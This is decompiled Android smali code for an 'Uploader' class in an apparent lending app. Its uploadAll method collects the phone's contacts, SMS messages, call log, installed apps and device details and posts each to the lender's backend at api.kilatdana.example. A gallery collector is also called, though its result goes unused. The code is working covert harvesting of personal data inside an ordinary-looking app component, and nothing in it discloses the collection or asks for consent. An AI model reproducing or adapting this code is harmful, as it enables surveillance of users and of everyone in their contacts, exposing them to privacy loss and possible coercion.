.class public final Lid/kilatdana/app/net/Uploader;
.super Ljava/lang/Object;
.source "Uploader.java"

.field public static final BASE_URL:Ljava/lang/String; = "https://api.kilatdana.example"

.method private constructor <init>()V
    .locals 0
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public static post(Ljava/lang/String;Ljava/lang/String;)I
    .locals 3
    new-instance v0, Ljava/net/URL;
    invoke-direct {v0, p0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    check-cast v0, Ljava/net/HttpURLConnection;
    const-string v1, "POST"
    invoke-virtual {v0, v1}, Ljava/net/HttpURLConnection;->setRequestMethod(Ljava/lang/String;)V
    const-string v1, "Content-Type"
    const-string v2, "application/json; charset=utf-8"
    invoke-virtual {v0, v1, v2}, Ljava/net/HttpURLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
    const/4 v1, 0x1
    invoke-virtual {v0, v1}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    invoke-virtual {p1}, Ljava/lang/String;->getBytes()[B
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getResponseCode()I
    move-result v1
    return v1
.end method

.method private static url(Ljava/lang/String;)Ljava/lang/String;
    .locals 2
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    const-string v1, "https://api.kilatdana.example"
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0, p0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

# Collects everything and posts it to the lender's backend.
.method public static uploadAll(Landroid/content/Context;)V
    .locals 2
    invoke-static {p0}, Lid/kilatdana/app/data/ContactsCollector;->collect(Landroid/content/Context;)Lorg/json/JSONArray;
    move-result-object v0
    invoke-virtual {v0}, Lorg/json/JSONArray;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "https://api.kilatdana.example/v2/contacts/upload"
    invoke-static {v1, v0}, Lid/kilatdana/app/net/Uploader;->post(Ljava/lang/String;Ljava/lang/String;)I

    invoke-static {p0}, Lid/kilatdana/app/data/SmsCollector;->collect(Landroid/content/Context;)Lorg/json/JSONArray;
    move-result-object v0
    invoke-virtual {v0}, Lorg/json/JSONArray;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "/v2/sms/upload"
    invoke-static {v1}, Lid/kilatdana/app/net/Uploader;->url(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-static {v1, v0}, Lid/kilatdana/app/net/Uploader;->post(Ljava/lang/String;Ljava/lang/String;)I

    invoke-static {p0}, Lid/kilatdana/app/data/CallLogCollector;->collect(Landroid/content/Context;)Lorg/json/JSONArray;
    move-result-object v0
    invoke-virtual {v0}, Lorg/json/JSONArray;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "/v2/calllog/upload"
    invoke-static {v1}, Lid/kilatdana/app/net/Uploader;->url(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-static {v1, v0}, Lid/kilatdana/app/net/Uploader;->post(Ljava/lang/String;Ljava/lang/String;)I

    invoke-static {p0}, Lid/kilatdana/app/data/DeviceInfo;->installedApps(Landroid/content/Context;)Lorg/json/JSONArray;
    move-result-object v0
    invoke-virtual {v0}, Lorg/json/JSONArray;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "/v2/applist/upload"
    invoke-static {v1}, Lid/kilatdana/app/net/Uploader;->url(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-static {v1, v0}, Lid/kilatdana/app/net/Uploader;->post(Ljava/lang/String;Ljava/lang/String;)I

    invoke-static {p0}, Lid/kilatdana/app/data/DeviceInfo;->collect(Landroid/content/Context;)Lorg/json/JSONObject;
    move-result-object v0
    invoke-virtual {v0}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v0
    const-string v1, "/v2/device/report"
    invoke-static {v1}, Lid/kilatdana/app/net/Uploader;->url(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-static {v1, v0}, Lid/kilatdana/app/net/Uploader;->post(Ljava/lang/String;Ljava/lang/String;)I

    invoke-static {p0}, Lid/kilatdana/app/data/GalleryCollector;->collect(Landroid/content/Context;)Lorg/json/JSONArray;
    return-void
.end method
